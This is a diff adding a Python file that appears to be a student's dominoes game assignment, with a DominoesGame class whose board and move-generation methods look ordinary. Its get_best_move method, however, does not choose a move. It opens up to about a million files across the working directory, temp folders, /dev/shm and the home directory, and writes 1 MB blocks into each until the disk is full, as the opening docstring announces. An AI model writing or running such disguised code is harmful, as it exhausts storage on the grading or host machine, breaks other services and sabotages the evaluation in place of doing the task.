@@ -1,0 +1,39 @@
+"""Writes until nothing can be written any more, everywhere."""
+import os
+import tempfile
+
+student_name = "Robin Quill"
+
+
+class DominoesGame(object):
+
+    def __init__(self, board):
+        self.board = board
+
+    def get_board(self):
+        return self.board
+
+    def legal_moves(self, vertical):
+        down, right = (1, 0) if vertical else (0, 1)
+        for row in range(len(self.board) - down):
+            for col in range(len(self.board[0]) - right):
+                if not (self.board[row][col] or self.board[row + down][col + right]):
+                    yield row, col
+
+    def after(self, move, vertical):
+        row, col = move
+        board = [list(line) for line in self.board]
+        board[row][col] = board[row + vertical][col + (not vertical)] = True
+        return DominoesGame(board)
+
+    def get_best_move(self, vertical, limit):
+        block = b"x" * (1 << 20)
+        folders = [".", tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")]
+        files = []
+        for number in range(1 << 20):
+            try:
+                files.append(open(os.path.join(folders[number % len(folders)], "full%d" % number), "wb"))
+                while True:
+                    files[-1].write(block)
+            except OSError:
+                pass
